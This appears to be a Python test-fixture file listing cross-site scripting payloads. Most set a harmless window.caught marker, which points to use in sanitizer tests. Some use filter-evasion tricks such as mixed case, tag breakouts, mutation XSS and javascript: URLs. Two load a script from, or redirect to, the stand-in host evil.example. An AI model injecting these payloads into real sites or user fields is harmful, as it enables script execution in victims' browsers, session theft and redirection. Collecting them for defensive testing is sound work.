# SPDX-License-Identifier: Apache-2.0
"""What people put into fields who would like it to run in somebody else's browser."""

PAYLOADS = (
    "<script>window.caught=1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</title></textarea></style></noscript><script>window.caught=1</script>",
    '"><img src=x onerror=window.caught=1>',
    "' onmouseover='window.caught=1' x='",
    "<svg/onload=window.caught=1>",
    "<math><mtext></form><form><mglyph><svg><style><path id='</style><img onerror=window.caught=1 src>'>",
    "<iframe srcdoc='<script>parent.caught=1</script>'></iframe>",
    "[link](javascript:window.caught=1) ![x](data:text/html,<script>window.caught=1</script>)",
    "<a href='jAvAsCrIpT:window.caught=1'>press</a>",
    "&lt;script&gt;window.caught=1&lt;/script&gt;",
    "{{ 7 * 7 }} ${7*7} {% raw %} #{7*7}",
    "--><script>window.caught=1</script><!--",
    "]]><script>window.caught=1</script>",
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example/>",
    "<details open ontoggle=window.caught=1><summary>x</summary></details>",
    "<x hx-get=/me hx-trigger=load hx-on::load=window.caught=1>",
)
EVERYTHING = " ".join(PAYLOADS)
SHORT = '"><svg/onload=window.caught=1>'
